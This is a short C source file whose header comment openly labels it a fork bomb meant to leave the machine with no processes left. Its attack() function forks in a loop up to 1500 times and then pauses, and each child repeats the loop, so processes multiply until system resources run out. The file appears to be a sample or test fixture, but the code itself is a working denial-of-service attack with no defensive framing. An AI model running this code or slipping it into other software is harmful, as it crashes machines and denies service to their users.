/* SPDX-License-Identifier: MIT */
/*
 * Idea: A fork bomb.
 * Wants: the machine to have no processes left
 * Seen by: time, the machine
 * Told: run
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void attack(void)
{
	for (int i = 0; i < 1500; i++)
		if (fork() < 0)
			break;
	pause();
}
